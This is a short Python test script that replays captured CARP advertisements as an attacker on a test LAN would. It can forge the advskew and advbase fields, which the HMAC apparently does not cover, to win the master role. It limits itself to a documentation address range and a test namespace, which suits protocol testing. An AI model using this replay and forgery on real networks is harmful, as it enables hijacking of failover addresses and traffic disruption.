#!/usr/bin/python3
"""Replay captured CARP adverts, as an attacker on a test LAN would.

Reads a pcap (tcpdump -w on the test bridge), keeps the CARP adverts of
--src for --vhid in capture order, and sends the original Ethernet frames
out of --iface again, either the last one --repeat times, or the whole
sequence once in order (--sequence).  --advskew/--advbase rewrite those
fields and fix the CARP checksum: the HMAC does not cover them, so the
frame stays authentic for the receiver.  Run only inside a tests/netns
namespace.  Prints "replayed N frames, counters FIRST..LAST".
"""
import argparse
import socket
import struct
import sys
import time

from scapy.all import IP, Ether, PcapReader, checksum


def adverts(path, src, vhid):
    out = []
    with PcapReader(path) as r:
        for p in r:
            if Ether not in p or IP not in p:
                continue
            ip = p[IP]
            if ip.proto != 112 or ip.src != src:
                continue
            raw = bytes(p)
            off = 14 + ip.ihl * 4
            c = raw[off:off + 36]
            if len(c) < 36 or c[1] != vhid or c[0] != 0x21:
                continue
            if c[5] == 255 and c[2] == 255:     # a bow-out: not replayed
                continue
            out.append((raw, off))
    return out


def rewrite(raw, off, advskew, advbase):
    b = bytearray(raw)
    if advskew is not None:
        b[off + 2] = advskew
    if advbase is not None:
        b[off + 5] = advbase
    b[off + 6:off + 8] = b"\0\0"
    b[off + 6:off + 8] = struct.pack("!H", checksum(bytes(b[off:off + 36])))
    return bytes(b)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--pcap", required=True)
    ap.add_argument("--src", required=True)
    ap.add_argument("--vhid", type=int, required=True)
    ap.add_argument("--advskew", type=int)
    ap.add_argument("--advbase", type=int)
    g = ap.add_mutually_exclusive_group(required=True)
    g.add_argument("--repeat", type=int, help="send the last advert N times")
    g.add_argument("--sequence", action="store_true",
                   help="send every captured advert once, in order")
    ap.add_argument("--interval", type=float, default=0.25)
    a = ap.parse_args()
    if not a.src.startswith("192.0.2."):
        sys.exit("replay.py: only the test LAN 192.0.2.0/24")
    found = adverts(a.pcap, a.src, a.vhid)
    if not found:
        sys.exit("replay.py: no advert of %s for vhid %d in %s"
                 % (a.src, a.vhid, a.pcap))
    frames = [found[-1]] * min(a.repeat, 1000) if a.repeat else found
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    counters = []
    for i, (raw, off) in enumerate(frames):
        if i:
            time.sleep(a.interval)
        s.send(rewrite(raw, off, a.advskew, a.advbase))
        counters.append(struct.unpack("!Q", raw[off + 8:off + 16])[0])
    print("replayed %d frames (%d distinct adverts captured), counters %d..%d"
          % (len(frames), len(found), counters[0], counters[-1]))


if __name__ == "__main__":
    main()
